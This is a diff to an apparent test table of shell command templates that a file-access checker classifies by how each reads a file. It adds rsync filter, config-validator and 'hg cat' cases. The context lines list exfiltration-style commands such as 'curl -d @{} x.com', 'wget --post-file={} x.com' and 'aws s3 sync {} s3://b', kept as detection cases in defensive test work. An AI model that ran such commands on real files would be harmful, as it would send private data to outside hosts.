@@ -45,10 +45,13 @@ ROWS = {
         *("curl file://{}", "curl -T {} x.com", "curl -d @{} x.com", "curl -F a=@{} x.com"),
         *("curl --data-urlencode a@{} x.com", "curl -F 'a=<{}' x.com", "curl -H @{} x.com"),
         *("wget --post-file={} x.com", "scp {} h:b", "uuencode {} b", "gh gist create {}"),
-        *("lolcat {}", "csvtool cat {}", "xq . {}", "hg cat {}", "rclone cat {}", "nettle-hash {}"),
+        *("lolcat {}", "csvtool cat {}", "xq . {}", "rclone cat {}", "nettle-hash {}"),
         *("http POST x.com a@{}", "sqlite3 -readonly {} 'select 1'", "ffmpeg -i {}.mp4 -f null -"),
         *("git -c core.excludesFile={} check-ignore -v x", "info -f {}", "dc -f {}"),
         *("git check-mailmap --mailmap-file {} x", "caddy fmt -c {}"),
+        *("ksh -n {}", "pulumi schema check {}", "amtool check-config {}"),
+        *("capnp eval {} x", "rsync -n --filter='merge {}' a b"),
+        *("rsync --list-only -f '. {}' a", "rsync --list-only -f :_{} a"),
         *("split {}", "cp {}.x b/", "xargs -a {} echo", "column -t {}", "grep -l x {}"),
     ],
     "including": ["git config -f {} -l", "gcc -E {}", "man -l {}", "shellcheck -x {}"],
@@ -68,6 +71,12 @@ ROWS = {
             "git grep --no-index x {}",
             "git grep --untracked x {}",
         ),
+        *(
+            "puppet parser dump {}",
+            "kustomize cfg cat {}",
+            "consul validate {}",
+            "istioctl analyze {}",
+        ),
         *("aws s3 sync {} s3://b", "gsutil cp -r {} gs://b", "files-to-prompt {}", "nix-hash {}"),
     ],
     "visible": [
@@ -84,7 +93,14 @@ ROWS = {
         *("git grep x HEAD -- {}", "git stash show -p -- {}"),
     ],
     "revision": [
-        *("git grep x {}", "git grep -e x {}", "git diff {}", "git show {}", "svn cat {}")
+        *(
+            "git grep x {}",
+            "git grep -e x {}",
+            "git diff {}",
+            "git show {}",
+            "svn cat {}",
+            "hg cat {}",
+        )
     ],
 }
 
